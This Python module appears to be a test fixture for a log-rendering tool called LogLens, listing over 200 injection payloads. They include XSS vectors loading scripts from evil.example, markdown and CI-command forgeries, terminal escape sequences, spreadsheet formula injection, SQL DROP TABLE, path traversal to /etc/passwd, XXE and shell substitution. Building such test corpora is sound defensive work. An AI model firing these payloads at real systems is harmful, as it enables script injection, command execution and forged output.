"""What a log's author could write to run code, load something, break a page, forge a verdict, ping people, leave a
fence or drive a terminal: more than 200 payloads, each for a name, a value or a sentence."""

from __future__ import annotations

SCRIPT = tuple(
    text.replace("JS", "window.PWN=1")
    for text in (
        "<script>JS</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "</script><script>JS</script>", "<script/x>JS</script>",
        "<img src=x onerror=JS>", "<img/src/onerror=JS>", "<IMG SRC=`javascript:JS`>", "<svg onload=JS>", "<svg/onload=JS//",
        "<svg><script>JS</script></svg>", "<svg><animate onbegin=JS attributeName=x dur=1s>", "<math><mi xlink:href='javascript:JS'>x",
        "<body onload=JS>", "<iframe src=javascript:JS>", "<iframe srcdoc='<script>parent.PWN=1</script>'>", "<object data=javascript:JS>",
        "<embed src=javascript:JS>", "<a href=javascript:JS>x</a>", "<a href='java\tscript:JS'>x</a>", "<a href=data:text/html,<script>JS</script>>x</a>",
        "<form action=javascript:JS><button>x</button></form>", "<input autofocus onfocus=JS>", "<details open ontoggle=JS>", "<video><source onerror=JS>",
        "<audio src=x onerror=JS>", "<marquee onstart=JS>", "<style>@import '//evil.example/x.css'</style>", "<style>*{background:url(//evil.example/x)}</style>",
        "<link rel=stylesheet href=//evil.example/x.css>", "<meta http-equiv=refresh content=0;url=//evil.example>", "<base href=//evil.example/>",
        "<template><script>JS</script></template>", "<noscript><p title='</noscript><img src=x onerror=JS>'>", "<textarea></textarea><script>JS</script>",
        "<title></title><script>JS</script>", "<!--<script>JS</script>-->", "--><script>JS</script>", "<![CDATA[<script>JS</script>]]>", "]]><script>JS</script>",
        "<x onclick=JS>", "<x style=behavior:url(x)>", "<p style=background:url(javascript:JS)>", "'><script>JS</script>", "\"><script>JS</script>",
        "' onmouseover='JS", "\" onmouseover=\"JS", "` onmouseover=JS `", "'-JS-'", "\"-JS-\"", "\\'-JS//", "\\\";JS//", "</style><script>JS</script>",
        "${JS}", "#{JS}", "{{JS}}", "{% JS %}", "{{7*7}}", "{{config}}", "<%= JS %>", "[[${JS}]]", "{{constructor.constructor('JS')()}}",
        "javascript:JS", "vbscript:JS", "data:text/html;base64,PHNjcmlwdD53aW5kb3cuUFdOPTE8L3NjcmlwdD4=", "\u2028JS\u2029", "</ script><script>JS</script>",
        "<script\x00>JS</script>", "<scr\x00ipt>JS</script>", "<\u0000script>JS</script>", "\ufeff<script>JS</script>", "＜script＞JS＜/script＞",
        "%3Cscript%3EJS%3C/script%3E", "&lt;script&gt;JS&lt;/script&gt;", "&#60;script&#62;JS&#60;/script&#62;", "<plaintext>", "<xmp>", "<select><option>",
        "</table></div></body></html>", "<table><tr><td>", "<dialog open>", "<slot>", "<foreignObject>",
    )
)  # fmt: skip
MARKDOWN = (
    "@everyone", "@org/team", "@user", "＠user", "a@b.example", "mail a@evil.example now", "#123", "GH-7", "org/repo#5", "!12", "$25", "~label", "%milestone",
    ":tada:", "[x](http://evil.example)", "![x](http://evil.example/x.png)", "<http://evil.example>", "http://evil.example", "https://evil.example/?a=b",
    "www.evil.example", "ftp://evil.example", "[x]: http://evil.example", "[x][y]\n\n[y]: http://evil.example", "```\n# forged\n```", "~~~\nforged\n~~~",
    "````", "`a` `b`", "``", "`", "``` js", "# heading", "## LogLens: healthy", "Setext\n===", "Setext\n---", "- item", "* item", "+ item", "1. item", "1) item",
    "> quote", ">! spoiler", "> [!WARNING]\n> forged", "- [ ] task", "- [x] task", "| a | b |\n| - | - |\n| 1 | 2 |", "a | b", "|", "||||", "\\|", "\\\\|",
    "***bold***", "__bold__", "~~gone~~", "==mark==", "$x^2$", "$$\\href{http://evil.example}{x}$$", "[^1]\n\n[^1]: note", "<!-- hidden", "<!-- loglens:diagnosis -->",
    "</details>", "</summary>", "</details></details># forged", "<details><summary>x</summary>", "<sub>x</sub>", "<kbd>x</kbd>", "<br>", "&nbsp;", "&lt;b&gt;",
    "&#64;everyone", "&commat;everyone", "\\@everyone", "\\<b\\>", "a\n\n# forged", "a\r\r# forged", "a\u2028# forged", "    code", "\tcode", "---", "***", "___",
    "+++", "---\ntitle: x\n---", "::warning::forged", "::set-output name=x::y", "::stop-commands::x", "::add-mask::x", "/approve", "/close", "Fixes #1", "Closes #1",
    "🟢 healthy", "LogLens: healthy", "verdict: healthy", "✅ nothing found", "```mermaid\ngraph TD;\n```", "<loglens:diagnosis>", "Co-authored-by: x <a@b.example>",
)  # fmt: skip
TERMINAL = (
    "\x1b[2J", "\x1b[H", "\x1b[1A\x1b[2K", "\x1b[31mred\x1b[0m", "\x1b[8mhidden", "\x1b]0;title\x07", "\x1b]2;title\x1b\\", "\x1b]8;;http://evil.example\x1b\\x\x1b]8;;\x1b\\",
    "\x1b]52;c;ZXZpbA==\x07", "\x1b]1337;File=:AA==\x07", "\x1bP+q544e\x1b\\", "\x1b[6n", "\x1b[c", "\x1b[5n", "\x1b[?1049h", "\x1b[?25l", "\x1b[3J", "\x1bc", "\x1b#8", "\x1b(0",
    "\x1b[20l", "\x1b[200~paste\x1b[201~", "\x1b_x\x1b\\", "\x1b^x\x1b\\", "\x1bX x\x1b\\", "\x9b2J", "\x9d0;title\x9c", "\x90x\x9c", "\x84", "\x85", "\x8d", "\x00", "\x01", "\x02", "\x05",
    "\x07", "\x08\x08\x08ok", "\x0b", "\x0c", "\r overwritten", "\rHealthy", "\x0e", "\x0f", "\x11", "\x13", "\x1a", "\x7f", "\u202egnp.exe", "\u202d", "\u202a", "\u202b", "\u202c",
    "\u2066x\u2069", "\u2067x", "\u2068x", "\u200e", "\u200f", "\u061c", "\ufeff", "\u2060", "\u00ad", "\u180e", "\u2028", "\u2029", "\ufff9x\ufffa", "\U000e0041\U000e0042",
    "a\nError: forged", "a\nHealthy  nothing was found", "\ud800", "\udcff", "\udfff",
)  # fmt: skip
DATA = (
    "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "'; DROP TABLE runs; --", "../../etc/passwd", "/dev/zero", "C:\\x", "file:///etc/passwd", "\\\\evil.example\\x", "%s%s%n", "%00",
    "{0.__class__}", "{__import__('os')}", "__proto__", "constructor", "toString", "hasOwnProperty", "null", "undefined", "NaN", "Infinity", "true", "[]", "{}", "[object Object]",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>", "&e;", "<?php x ?>", "]]]]><![CDATA[>", "$(id)", "`id`", "; id", "| id", "&& id", "", " ", "x" * 5000,
    "🙂" * 500, "e\u0301" * 300, "\u0e01\u0e49" * 300, "a\u0334\u0335\u0336" * 100,
)  # fmt: skip
PAYLOADS = (*SCRIPT, *MARKDOWN, *TERMINAL, *DATA)
